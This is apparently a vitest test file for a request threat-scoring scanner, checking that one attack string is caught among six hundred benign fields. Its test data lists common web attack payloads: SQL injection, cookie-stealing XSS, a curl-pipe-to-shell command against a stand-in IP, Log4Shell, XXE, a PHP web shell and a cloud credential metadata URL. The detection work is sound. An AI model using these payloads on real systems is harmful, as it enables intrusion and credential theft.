// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks are written like that
import { describe, expect, it } from 'vitest'
import { createHeat } from '../../plugins/threat-score/heat.ts'
import { createTurns } from '../../plugins/threat-score/turns.ts'
import { fieldOf, totalOf, totalWithin } from './scan-score.ts'

/** What people send, with all kinds of marks: no two alike. */
const honest = Array.from({ length: 600 }, (_, n) => {
  const sayings = [
    `Ticket ${n}: it's (still) slow at the till; see <b>order ${n * 7}</b> & tell "the team" by 5 p.m. = today.`,
    `const total${n} = items.map((item) => item.price * ${n}).reduce((a, b) => a + b, 0); // cents`,
    `Moved [the notes](https://wiki.example.com/a?page=${n}#top) -- 50% done, {draft: true} | \`review\` by $${n}.`,
    `SELECT your plan and update it where you like: ${n} seats, or drop us a line; "no strings" attached!`,
  ]
  return fieldOf(sayings[n % sayings.length]!, { where: `body.json./${n}`, kind: 'body' })
})

const attacks = [
  "x' or '1'='1",
  "1' union select login, password from users-- ",
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=confirm(document.cookie)>',
  ';cat /etc/passwd',
  '$(curl http://198.51.100.7/x|sh)',
  '../../../../etc/passwd',
  '${jndi:ldap://198.51.100.7/a}',
  '{{7*7}}{{config.__class__.__init__.__globals__}}',
  '<?php system($_GET[0]); ?>',
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  '*)(uid=*))(|(uid=*',
  'O:8:"Database":1:{s:4:"file";s:11:"/etc/passwd";}',
]

/** A tenth of what all of them would cost. */
const WORK = 60_000

describe('an attack among six hundred honest values, and time for few', () => {
  it('needs the choice: in the order of the request the time is over before', () => {
    expect(totalWithin(Number.POSITIVE_INFINITY, honest)).toBeLessThan(80)
    let characters = 0
    for (const { value } of honest) characters += value.length
    expect(characters).toBeGreaterThan(WORK / 2)
  })

  it.each(attacks)('is found wherever it stands: %s', (attack) => {
    expect(totalOf(attack)).toBeGreaterThanOrEqual(80)
    for (const at of [0, 150, 300, 599]) {
      const fields = honest.toSpliced(at, 0, fieldOf(attack, { where: 'body.json./attack', kind: 'body' }))
      expect(totalWithin(WORK, fields), `${at}`).toBeGreaterThanOrEqual(80)
    }
  })
})

describe('the turns', () => {
  const turnsOf = createTurns()

  it('are not chosen for what is small', () => {
    expect(turnsOf(honest.slice(0, 20))).toBe(null)
    expect(turnsOf(honest)).not.toBe(null)
  })

  it('are the same for the same values, however they are turned round', () => {
    const heat = createHeat()
    const marks = (fields: typeof honest) => turnsOf(fields)!.rest.map(({ value }) => heat(value) / value.length)
    expect(marks(honest.toReversed())).toEqual(marks(honest))
  })

  it('leave out what is plain, and keep the first and the last long value apart', () => {
    const long = Array.from({ length: 4 }, (_, n) => fieldOf(`${n} ${'(a) '.repeat(900)}`))
    const plain = fieldOf('abc', { plain: true })
    const turns = turnsOf([plain, ...long, plain, honest[0]!])!
    expect(turns.always).toEqual([long[0], long[3]])
    expect(turns.rest).toEqual([honest[0], long[1], long[2]])
    expect(turnsOf([fieldOf('(a) '.repeat(3000))])!.always).toHaveLength(1)
  })
})

describe('heat', () => {
  it('counts marks, each once, whatever the case and the blanks', () => {
    const heat = createHeat()
    expect(heat('Good morning')).toBe(0)
    expect(heat('<SCRIPT <script')).toBe(1)
    expect(heat("' UNION  SELECT")).toBeGreaterThan(0)
    expect(heat('<script>alert(1)')).toBe(heat('<script>') + heat('alert(1)'))
  })
})
